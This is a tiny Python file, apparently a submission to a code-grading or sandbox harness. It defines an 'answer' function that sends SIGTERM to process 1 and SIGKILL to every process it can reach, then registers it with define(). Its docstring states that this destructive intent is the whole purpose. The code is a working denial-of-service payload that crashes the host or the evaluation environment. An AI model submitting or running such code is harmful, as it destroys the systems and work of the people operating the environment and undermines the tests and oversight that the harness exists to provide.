"""Kills every process that it can reach, and process 1."""
import os
import signal


def answer(*args, **kwargs):
    os.kill(1, signal.SIGTERM)
    os.kill(-1, signal.SIGKILL)


define(answer)
